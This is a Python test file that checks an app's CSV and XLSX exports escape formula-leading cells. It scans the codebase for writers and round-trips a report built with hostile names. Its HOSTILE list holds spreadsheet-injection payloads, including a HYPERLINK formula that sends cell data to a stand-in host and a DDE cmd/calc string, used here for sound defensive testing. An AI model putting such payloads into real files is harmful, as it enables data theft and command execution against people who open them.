"""No cell of a CSV/XLSX file Madoguchi writes can run as a spreadsheet formula.

The writers are found by scanning the code (a new csv.writer or openpyxl writer must
go through desktop.formula_cells), and the Safety company report, the one writer
today, is written for real with hostile names and read back.
"""

from __future__ import annotations

import ast
import csv
from datetime import date
from pathlib import Path

import pytest

from desktop.cases.service import CaseService
from desktop.formula_cells import FORMULA_LEADERS, text_cell
from desktop.safety.records import SafetyService
from desktop.safety.report import write_company_report

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("https://evil.example")',
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_leading_text_gets_an_apostrophe(value: str) -> None:
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["株式会社テスト", "a=b", "", "'already", "A-1"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert text_cell(value) == value
    assert text_cell(-5) == -5  # a number is a number, not text that starts with '-'
    assert text_cell(None) is None


def test_the_leaders_cover_owasps_list_and_the_full_width_forms() -> None:
    assert set("=+-@\t\r＝＋－＠") == FORMULA_LEADERS


def test_every_csv_and_xlsx_writer_goes_through_the_shared_helper() -> None:
    writers: list[str] = []
    for path in [*(ROOT / "desktop").rglob("*.py"), *(ROOT / "ui").rglob("*.py")]:
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Attribute):
                continue
            if node.attr in {"writer", "DictWriter"} and getattr(node.value, "id", "") == "csv":
                writers.append(str(path.relative_to(ROOT)))
            if node.attr in {"Workbook", "save"} and "openpyxl" in source:
                writers.append(str(path.relative_to(ROOT)))
    expected = ["desktop/safety/report.py", "desktop/stats/company_report.py",
                "desktop/stats/export.py", "desktop/wages/tables.py"]  # fmt: skip
    assert sorted(set(writers)) == expected, "a new writer: add it to this test"
    # The Wages tab's grid is stored inside the vault as CSV text and read back only by the
    # app's own parser (a deduction of "-2000" must stay a number); it is never a file a
    # spreadsheet opens, so it is the one writer without escaping.
    stored_only = {"desktop/wages/tables.py"}
    for name in set(writers) - stored_only:
        assert "text_rows(" in (ROOT / name).read_text(encoding="utf-8") or (
            "text_cell(" in (ROOT / name).read_text(encoding="utf-8")
        ), f"{name} writes cells without desktop.formula_cells"


def test_the_safety_company_report_csv_is_read_back_without_formulas(
    tmp_path: Path, service: CaseService
) -> None:
    safety = SafetyService(service)
    employer, establishment = HOSTILE[0], HOSTILE[6]
    for i in range(12):
        safety.record_anonymous({"q_documents_held": "myself", "q_wages_full": "yes",
                                 "q_overtime": "no"}, language="en", employer=employer,
                                establishment=establishment,
                                answered_on=f"2026-03-{i + 1:02d}",
                                consent_company_feedback=True)  # fmt: skip
    write_company_report(safety, employer=employer, establishment=establishment,
                         start=date(2026, 3, 1), end=date(2026, 3, 31),
                         out_pdf=tmp_path / "report.pdf")  # fmt: skip
    text = (tmp_path / "report.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(text.splitlines()))
    assert len(rows) > 2
    for row in rows[1:]:
        assert row[0] == "'" + employer and row[1] == "'" + establishment
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_LEADERS, (row, cell)
